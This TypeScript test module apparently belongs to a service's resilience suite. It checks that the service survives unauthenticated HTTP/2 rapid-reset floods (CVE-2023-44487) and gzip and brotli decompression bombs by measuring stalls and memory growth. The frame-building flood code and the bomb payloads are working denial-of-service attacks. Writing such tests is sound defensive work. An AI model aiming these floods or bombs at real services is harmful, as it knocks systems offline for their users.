import { gzipSync } from 'node:zlib';
import type { Attack, Ground } from './attack.js';
import { frame, headerBlock, headersFrame, preface, settings, type, uint32 } from './http2-frames.js';
import { http2Headers } from './valid-requests.js';

/* Attacks that need no key: they must cost their sender more than the service. */

/** No stall may be longer than this, or than `timesValid` of the same number of valid requests. */
const allowedStallMs = 100;
const timesValid = 3;
const rounds = 3;
const healthRequest = 'GET /api/v1/health HTTP/1.1\r\nHost: a\r\n\r\n';
const check = '/grpc.health.v1.Health/Check';
const connections = 30;
const streamsPerConnection = 900;

/** What a load does to the service, in milliseconds. */
interface Hold {
  /** The longest time that a liveness probe takes on an open connection. It includes the time in which this process has the processors. */
  readonly probeMs: number;
  /** The longest stall that the service measures itself. */
  readonly stallMs: number;
}

const figures: readonly (keyof Hold)[] = ['probeMs', 'stallMs'];

async function holdOf({ target }: Ground, work: () => Promise<unknown>): Promise<Hold> {
  await target.stallMs();
  const socket = await target.open();
  let isWorking = true;
  let longestMs = 0;
  const probing = (async () => {
    while (isWorking) {
      const startedAtMs = performance.now();
      const answered = new Promise<void>((resolve) => {
        socket.once('data', () => resolve());
        socket.once('close', () => resolve());
      });
      socket.write(healthRequest);
      await answered;
      longestMs = Math.max(longestMs, performance.now() - startedAtMs);
    }
  })();
  await work();
  isWorking = false;
  await probing;
  socket.destroy();
  return { probeMs: longestMs, stallMs: await target.stallMs() };
}

/** Sends all bytes on each of `connections` new connections at once; resolves when the service has answered a PING on each, or closed it. */
async function sendOnEach({ target }: Ground, bytes: Uint8Array): Promise<void> {
  const ping = frame(type.ping, 0, 0, Buffer.from('the last'));
  const sockets = await Promise.all(Array.from({ length: connections }, () => target.open()));
  await Promise.all(
    sockets.map(
      (socket) =>
        new Promise<void>((resolve) => {
          socket.once('close', () => resolve());
          socket.on('data', (chunk: Buffer) => chunk.includes('the last') && resolve());
          socket.write(Buffer.concat([preface, settings(), bytes, ping]));
          target.counts.requests += streamsPerConnection;
        }),
    ),
  );
  for (const socket of sockets) socket.destroy();
}

/**
 * Judges a load beside as many valid requests. The short form, which also runs on busy machines, only measures. Each figure counts at its least of
 * up to three rounds: other work on the machine, or a collection of garbage, may fall into any of them. What the load itself costs is in all of them.
 */
async function judge(
  ground: Ground,
  { what, load, valid }: { readonly what: string; readonly load: () => Promise<unknown>; readonly valid: () => Promise<unknown> },
): Promise<void> {
  const exceeded = new Map(figures.map((figure) => [figure, '']));
  for (let round = 1; round <= rounds && exceeded.size > 0; round += 1) {
    const validHold = await holdOf(ground, valid);
    const hold = await holdOf(ground, load);
    ground.say(`${what}: ${textOf(hold)}; valid requests: ${textOf(validHold)}`);
    for (const figure of exceeded.keys()) {
      const allowedMs = Math.max(allowedStallMs, timesValid * validHold[figure]);
      if (hold[figure] <= allowedMs) exceeded.delete(figure);
      else exceeded.set(figure, `${hold[figure].toFixed(0)} ms; ${allowedMs.toFixed(0)} ms are allowed`);
    }
  }
  if (ground.isShort) return;
  for (const [figure, sentence] of exceeded)
    ground.violation(`${what} held the service in each of ${rounds} rounds, last for ${sentence} (${figure})`);
}

function textOf(hold: Hold): string {
  return `stall ${hold.stallMs.toFixed(0)} ms, slowest probe ${hold.probeMs.toFixed(0)} ms`;
}

/** CVE-2023-44487 without a key: calls that are opened and reset at once, fewer on each connection than nghttp2 allows in a burst. */
async function rapidResetWithoutKey(ground: Ground): Promise<void> {
  const block = headerBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':authority', 'a'],
    [':path', '/relayer.v1.TransactionService/SendTransaction'],
    ['content-type', 'application/grpc'],
  ]);
  const streams = Array.from({ length: streamsPerConnection }, (_, index) => index * 2 + 1);
  const reset = Buffer.concat(streams.flatMap((id) => [headersFrame(id, block, false), frame(type.reset, 0, id, uint32(8))]));
  const health = headerBlock([
    [':method', 'GET'],
    [':scheme', 'http'],
    [':authority', 'a'],
    [':path', '/api/v1/health'],
  ]);
  // As many as a session may have at once.
  const valid = Buffer.concat(streams.slice(0, 200).map((id) => headersFrame(id, health, true)));
  await judge(ground, {
    what: `rapid reset without a key, ${connections} connections x ${streamsPerConnection}`,
    load: () => sendOnEach(ground, reset),
    valid: () => sendOnEach(ground, valid),
  });
}

/** Small bodies that are large when decompressed, to a method that needs no key. */
async function compressedWithoutKey(ground: Ground): Promise<void> {
  const bomb = gzipSync(Buffer.alloc(1_000_000));
  const calls = 100;
  const callAll = (encoding: string, body: Uint8Array) => async (): Promise<void> => {
    const session = ground.target.session();
    const headers = { ...http2Headers(check, 'application/proto'), 'content-encoding': encoding };
    await Promise.all(
      Array.from({ length: calls }, async () => {
        const answer = await ground.target.request(session, headers, body);
        if (answer === null) ground.violation(`${encoding}: a call was not answered`);
        else if (answer.status === 200 && body.length > 0) ground.violation(`${encoding}: a large message was accepted`);
      }),
    );
    session.destroy();
  };
  const before = await ground.target.settle();
  for (const [encoding, body] of [
    ['br', Buffer.from('0b00800000000000000003', 'hex')],
    ['gzip', bomb],
  ] as const) {
    await judge(ground, {
      what: `${calls} bodies in ${encoding}`,
      load: callAll(encoding, body),
      valid: callAll('identity', Buffer.alloc(0)),
    });
  }
  const after = await ground.target.settle();
  if (after.rss > before.rss + 100) ground.violation(`${after.rss - before.rss} MiB more are resident than before`);
}

export const attacksWithoutKey: readonly Attack[] = [
  { name: 'rapid reset without a key', run: rapidResetWithoutKey },
  { name: 'compressed bodies without a key', run: compressedWithoutKey },
];
